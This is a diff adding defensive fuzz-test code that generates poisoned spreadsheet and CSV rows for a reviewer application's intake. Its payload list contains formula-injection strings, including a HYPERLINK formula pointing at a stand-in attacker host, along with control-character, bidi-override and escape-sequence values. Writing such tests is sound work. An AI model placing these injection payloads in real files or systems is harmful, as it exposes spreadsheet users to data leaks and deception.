@@ -18,8 +18,10 @@ from dataclasses import dataclass, field
 from pathlib import Path
 
 import pandas as pd
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+from reviewer.intake.schema import TABLES
 
 DEMO = Path(__file__).resolve().parent.parent / "reviewer" / "data" / "demo"
 MARK = "FUZZ"   # every hostile text holds it: a live formula holding it came from the input
@@ -200,3 +202,68 @@ def scan_tree(root: Path) -> list[Finding]:
         elif suf in (".txt", ".ics", ".json", ".md"):
             found += scan_text(p)
     return found
+
+
+# ---------------------------------------------------------------- a poisoned round for the command line
+
+# Free-text columns every row of which is poisoned (still valid data: names may hold any text).
+POISONED_COLUMNS = {
+    "applications": ["创新中心名称", "牵头单位", "法定代表人", "中心负责人", "技术方向"],
+    "members": ["单位名称"],
+    "platforms": ["平台名称"],
+    "experts": ["姓名", "工作单位", "职称", "研究方向", "手机", "邮箱"],
+    "expert_history": ["单位名称", "职务", "说明"],
+    "declared_conflicts": ["理由"],
+}
+POISONS = [
+    lambda s: f'=HYPERLINK("http://evil.example/{MARK}","{s[:8]}")', lambda s: f"+{MARK}{s}",
+    lambda s: f"-{MARK}{s}", lambda s: f"@{MARK}{s}", lambda s: f"{s}\x07{MARK}", lambda s: f"\u202e{s}{MARK}",
+    lambda s: f"\ufeff{s}{MARK}", lambda s: f"{s}\r\n={MARK}", lambda s: f"\t={MARK}{s}", lambda s: f"\x1b[2J{s}{MARK}",
+]
+
+
+def poisoned_round(rng: random.Random, n_experts: int = 120) -> tuple[dict[str, pd.DataFrame], dict[str, int]]:
+    """The small round with every free-text cell poisoned (formula text, control characters, bidi
+    overrides, BOMs: all valid, so every row must still load) plus one absurd row per table (which must
+    be rejected). Returns (tables, number of rows that must load per table)."""
+    tables = base_tables(n_experts)
+    good = {}
+    for name, df in tables.items():
+        for col in POISONED_COLUMNS[name]:
+            df[col] = [rng.choice(POISONS)(str(v)) if str(v) else v for v in df[col]]
+        good[name] = len(df)
+    absurd = {
+        "applications": {"申报编号": "GX2026-999", "近三年销售收入_第1年": "1e400", "有效发明专利数": "9" * 400},
+        "experts": {"专家编号": "ZJ9999", "姓名": "长" * 5000, "每阶段最多评审数": "9" * 30},
+        "members": {"领域排名": "-3"}, "platforms": {"认定年份": "inf"},
+        "expert_history": {"开始日期": "2024-13-45"}, "declared_conflicts": {"类型": "=1+1"},
+    }
+    for name, cells in absurd.items():
+        row = tables[name].iloc[[0]].copy()
+        for c, v in cells.items():
+            row[c] = v
+        tables[name] = pd.concat([tables[name], row], ignore_index=True)
+    return tables, good
+
+
+def write_round(tables: dict[str, pd.DataFrame], folder: Path, as_workbook: bool) -> Path:
+    """The round as one workbook (one sheet per table, formulas live, control characters as Excel
+    escapes them) or as a folder of CSV files; returns what to pass to the commands."""
+    folder.mkdir(parents=True, exist_ok=True)
+    if as_workbook:
+        path = folder / "round.xlsx"
+        wb = Workbook()
+        wb.remove(wb.active)
+        for name, df in tables.items():
+            ws = wb.create_sheet(TABLES[name].zh)
+            ws.append(list(df.columns))
+            for r, row in enumerate(df.itertuples(index=False), start=2):
+                for c, v in enumerate(row, start=1):
+                    cell = ws.cell(r, c)
+                    cell.value = ILLEGAL_CHARACTERS_RE.sub(lambda m: f"_x{ord(m.group()):04X}_", v) if v else None
+                    cell.data_type = "s"   # "=..." typed as text (as Excel stores '=...), not a formula
+        wb.save(path)
+        return path
+    for name, df in tables.items():
+        Variant(df, name).write(folder / name)
+    return folder / "applications.csv"
